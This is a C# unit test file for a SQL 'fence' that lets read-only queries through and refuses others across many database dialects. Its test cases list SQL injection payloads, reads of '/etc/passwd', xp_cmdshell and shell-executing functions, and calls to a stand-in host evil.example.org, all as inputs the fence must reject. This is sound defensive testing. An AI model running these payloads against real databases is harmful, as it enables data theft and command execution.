using MeshGovernance.Databases.Dialects;
using MeshGovernance.Databases.Fences;
using Xunit;

namespace MeshGovernance.Tests.Engines;

/// <summary>What strangers may ask of a database, and what they may not.</summary>
public sealed class FenceTests
{
    public static TheoryData<string> Names => [.. DataDialects.Names];

    [Theory]
    [MemberData(nameof(Names))]
    public void A_query_that_reads_is_let_through_without_its_comments(string dialect) =>
        Assert.Equal(
            "WITH late AS (SELECT id FROM orders o WHERE state <> 'it''s; DROP -- done'   AND text IS NOT NULL) SELECT COUNT(*) FROM late",
            Of(dialect, "WITH late AS (SELECT id FROM orders o WHERE state <> 'it''s; DROP -- done' /* ; DELETE */ AND text IS NOT NULL) SELECT COUNT(*) FROM late -- ; DROP TABLE orders\n ; ; ").Query);

    [Theory]
    [InlineData("", "it does not begin with SELECT or WITH")]
    [InlineData("-- SELECT", "it does not begin with SELECT or WITH")]
    [InlineData("DROP TABLE orders", "it does not begin with SELECT or WITH")]
    [InlineData("EXPLAIN ANALYZE SELECT 1", "it does not begin with SELECT or WITH")]
    [InlineData("(SELECT 1)", "it does not begin with SELECT or WITH")]
    [InlineData("SELECT 1; DROP TABLE orders", "it is more than one statement")]
    [InlineData("SELECT 1 /* a */; /* b */ SELECT 2", "it is more than one statement")]
    [InlineData("SELECT 'a\\'; DROP TABLE orders; --'", "a backslash stands before a quote")]
    [InlineData("SELECT 'a\\\\'; DROP TABLE orders; --'", "a backslash stands before a quote")]
    [InlineData("SELECT \"a\\\"; DROP TABLE orders; --\"", "a backslash stands before a quote")]
    [InlineData("SELECT q'['; DROP TABLE orders; --]'", "'q' stands right before a quote")]
    [InlineData("SELECT U&'\\0027'", "a quote stands right behind &")]
    [InlineData("SELECT U&\"pg_\\0072ead_file\"('/etc/passwd')", "a quote stands right behind &")]
    [InlineData("SELECT _gbk'a'", "'_gbk' stands right before a quote")]
    [InlineData("SELECT $$'$$; DROP TABLE orders; --'", "it has a dollar outside of quotes")]
    [InlineData("SELECT $a$'$a$; DROP TABLE orders; --'", "it has a dollar outside of quotes")]
    [InlineData("SELECT 1 /* /* */ ; DROP TABLE orders */", "a comment ends that never began")]
    [InlineData("SELECT 1 /* /* */ */", "a comment ends that never began")]
    [InlineData("SELECT 1 /*", "a comment is never closed")]
    [InlineData("SELECT 'a", "a quote is never closed")]
    [InlineData("SELECT 1 --\r; DROP TABLE orders", "it is more than one statement")]
    [InlineData("SELECT 'a\0'", "a quote is never closed")]
    [InlineData("SELECT\u00A01", "it holds a character that is a space to some and none to others")]
    [InlineData("SELECT größe FROM t", "it has a letter beyond those of ASCII outside of quotes")]
    [InlineData("SELECT {fn user()}", "it has a curly bracket outside of quotes")]
    [InlineData("WITH gone AS (DELETE FROM orders RETURNING *) SELECT COUNT(*) FROM gone", "'DELETE' does more than read")]
    [InlineData("WITH gone AS (SELECT 1) INSERT /**/ INTO orders SELECT 1", "'INSERT' does more than read")]
    [InlineData("SELECT 1 INTO stolen", "'INTO' does more than read")]
    [InlineData("SELECT id FROM orders FOR UPDATE", "it locks rows")]
    [InlineData("SELECT id FROM orders FOR SHARE", "it locks rows")]
    public void What_does_more_than_read_or_could_be_read_otherwise_is_refused_everywhere(string query, string reason) =>
        Assert.All(
            DataDialects.All.Where(dialect => !(dialect.Name == "oracle" && query.Contains('$', StringComparison.Ordinal))),
            dialect =>
            {
                var fence = Fence.Of(dialect, query);
                Assert.Null(fence.Query);
                Assert.StartsWith(reason, fence.Refusal, StringComparison.Ordinal);
            });

    [Theory]
    [InlineData("postgresql", "SELECT pg_read_file('/etc/passwd')")]
    [InlineData("postgresql", "SELECT \"pg_read_file\" ('/etc/passwd')")]
    [InlineData("postgresql", "SELECT pg_catalog . /**/ \"pg_read_file\"/**/('/etc/passwd')")]
    [InlineData("postgresql", "SELECT PG_LS_DIR('/')")]
    [InlineData("postgresql", "SELECT rolpassword FROM pg_authid")]
    [InlineData("postgresql", "SELECT lo_import('/etc/passwd')")]
    [InlineData("postgresql", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)")]
    [InlineData("postgresql", "SELECT query_to_xml('COPY t TO PROGRAM ''sh''', true, true, '')")]
    [InlineData("postgresql", "SELECT * FROM ts_stat('SELECT pg_read_file(1)')")]
    [InlineData("postgresql", "SELECT set_config('transaction_read_only', 'off', false)")]
    [InlineData("postgresql", "SELECT nextval('orders_id_seq')")]
    [InlineData("postgresql", "SELECT `a`")]
    [InlineData("redshift", "SELECT * FROM stl_query")]
    [InlineData("redshift", "SELECT * FROM pg_user")]
    [InlineData("sqlserver", "SELECT 1 EXEC xp_cmdshell 'dir'")]
    [InlineData("sqlserver", "SELECT 1 EXEC('DR' + 'OP TABLE t')")]
    [InlineData("sqlserver", "SELECT [a'b] DROP TABLE t --']")]
    [InlineData("sqlserver", "SELECT 1 WAITFOR DELAY '1:00'")]
    [InlineData("sqlserver", "SELECT 1 SHUTDOWN")]
    [InlineData("sqlserver", "SELECT 1 DECLARE @a int")]
    [InlineData("sqlserver", "SELECT 1 BEGIN TRAN")]
    [InlineData("sqlserver", "SELECT 1 ROLLBACK")]
    [InlineData("sqlserver", "SELECT 1 RECONFIGURE")]
    [InlineData("sqlserver", "SELECT * FROM OPENROWSET(BULK 'c:\\a', SINGLE_CLOB) a")]
    [InlineData("sqlserver", "SELECT * FROM OPENDATASOURCE('x', 'y').a.b.c")]
    [InlineData("sqlserver", "SELECT * FROM evil.shop.dbo.orders")]
    [InlineData("sqlserver", "SELECT * FROM evil.shop..orders")]
    [InlineData("sqlserver", "SELECT * FROM sys.fn_trace_gettable('c:\\a', 1)")]
    [InlineData("sqlserver", "SELECT * FROM [sys].[sql_logins]")]
    [InlineData("sqlserver", "SELECT * FROM t WITH (TABLOCKX)")]
    [InlineData("mysql", "SELECT LOAD_FILE('/etc/passwd')")]
    [InlineData("mysql", "SELECT `load_file`('/etc/passwd')")]
    [InlineData("mysql", "SELECT 1 INTO OUTFILE '/tmp/a'")]
    [InlineData("mysql", "SELECT 1 /*!50000 ; DROP TABLE t */ INTO DUMPFILE '/tmp/a'")]
    [InlineData("mysql", "SELECT 1 # ' \n ; DROP TABLE t; -- '")]
    [InlineData("mysql", "SELECT SLEEP(1000)")]
    [InlineData("mysql", "SELECT BENCHMARK(1000000000, MD5(1))")]
    [InlineData("mysql", "SELECT GET_LOCK('a', 1)")]
    [InlineData("mysql", "SELECT authentication_string FROM mysql.user")]
    [InlineData("clickhouse", "SELECT * FROM url('http://evil.example.org', CSV)")]
    [InlineData("clickhouse", "SELECT * FROM file('/etc/passwd')")]
    [InlineData("clickhouse", "SELECT * FROM s3Cluster('a', 'b')")]
    [InlineData("clickhouse", "SELECT * FROM remoteSecure('evil', 'a.b')")]
    [InlineData("clickhouse", "SELECT * FROM mysql('evil:3306', 'a', 'b', 'c', 'd')")]
    [InlineData("clickhouse", "SELECT * FROM executable('sh', CSV, 'a String')")]
    [InlineData("clickhouse", "SELECT sleepEachRow(3) FROM t")]
    [InlineData("clickhouse", "SELECT 1 SETTINGS max_execution_time = 0")]
    [InlineData("clickhouse", "SELECT * FROM system.users")]
    [InlineData("clickhouse", "SELECT 1 INTO OUTFILE 'a'")]
    [InlineData("snowflake", "SELECT $1 FROM @stage/file.csv")]
    [InlineData("snowflake", "SELECT * FROM @stage")]
    [InlineData("snowflake", "SELECT SYSTEM$WAIT(600)")]
    [InlineData("snowflake", "SELECT * FROM TABLE(TO_QUERY('DROP TABLE t'))")]
    [InlineData("snowflake", "SELECT * FROM snowflake.account_usage.users")]
    [InlineData("databricks", "SELECT * FROM csv.`/etc/passwd`")]
    [InlineData("databricks", "SELECT * FROM `parquet`.`s3://evil/a`")]
    [InlineData("databricks", "SELECT * FROM read_files('/')")]
    [InlineData("databricks", "SELECT java_method('java.lang.Runtime', 'getRuntime')")]
    [InlineData("databricks", "SELECT secret('a', 'b')")]
    [InlineData("bigquery", "SELECT * FROM EXTERNAL_QUERY('a', 'SELECT 1')")]
    [InlineData("bigquery", "SELECT '''a'b''' ; DROP TABLE t --'''")]
    [InlineData("bigquery", "SELECT 1 # ' \n ; DROP TABLE t; -- '")]
    [InlineData("bigquery", "SELECT * FROM ML.PREDICT(MODEL m, TABLE t)")]
    [InlineData("trino", "SELECT * FROM TABLE(pg.system.query(query => 'DROP TABLE t'))")]
    [InlineData("athena", "SELECT * FROM TABLE(\"pg\".\"system\".\"query\"(query => 'DROP TABLE t'))")]
    [InlineData("oracle", "SELECT UTL_HTTP.REQUEST('http://evil.example.org') FROM dual")]
    [InlineData("oracle", "SELECT HTTPURITYPE('http://evil.example.org').getclob() FROM dual")]
    [InlineData("oracle", "WITH FUNCTION f RETURN NUMBER IS PRAGMA AUTONOMOUS_TRANSACTION; BEGIN DELETE FROM t; COMMIT; RETURN 1; END; SELECT f FROM dual")]
    [InlineData("oracle", "SELECT * FROM orders@evil")]
    [InlineData("oracle", "SELECT nq'['; DROP TABLE t --]' FROM dual")]
    [InlineData("oracle", "SELECT dbms_xmlgen.getxml('SELECT 1') FROM dual")]
    [InlineData("oracle", "SELECT * FROM v$session")]
    [InlineData("sqlite", "SELECT load_extension('/tmp/evil')")]
    [InlineData("sqlite", "SELECT writefile('/tmp/a', 'b')")]
    [InlineData("sqlite", "SELECT * FROM pragma_database_list()")]
    public void What_leads_out_of_the_tables_is_refused(string dialect, string query)
    {
        var fence = Of(dialect, query);

        Assert.Null(fence.Query);
        Assert.NotNull(fence.Refusal);
    }

    [Theory]
    [InlineData("postgresql", "SELECT COUNT(*) FILTER (WHERE mail !~ '^\\w+@\\w+$') FROM sales.orders WHERE tags @> ARRAY['a'] AND data #>> '{a,b}' = 'x'")]
    [InlineData("sqlserver", "SELECT COUNT(*) FROM [sales].[dbo].[it's]]] WHERE [set] = N'x' AND LEN(name) > 2")]
    [InlineData("mysql", "SELECT COUNT(*) FROM `order` WHERE `key` REGEXP '\\\\d' AND TRUNC = 1")]
    [InlineData("clickhouse", "SELECT count() FROM shop.orders FINAL WHERE has(tags, 'a') AND match(mail, '\\\\w')")]
    [InlineData("databricks", "SELECT COUNT(*) FROM lake.sales.orders WHERE text IS NULL AND json = 'a'")]
    [InlineData("bigquery", "SELECT COUNT(*) FROM `shop-prod.sales.orders` WHERE r'\\d' = \"a\"")]
    [InlineData("snowflake", "SELECT COUNT(*) FROM SALES.ORDERS WHERE DATA:a.b::string = 'x'")]
    [InlineData("oracle", "SELECT COUNT(*) FROM sales.orders WHERE placed > DATE '2026-01-01' AND a$b = 1")]
    [InlineData("sqlite", "SELECT COUNT(*) FROM [orders] WHERE \"update\" = 1")]
    public void What_people_ask_is_let_through(string dialect, string query)
    {
        var fence = Of(dialect, query);

        Assert.Null(fence.Refusal);
        Assert.Equal(query, fence.Query);
    }

    private static Fence Of(string dialect, string query) => Fence.Of(DataDialects.Named(dialect)!, query);
}
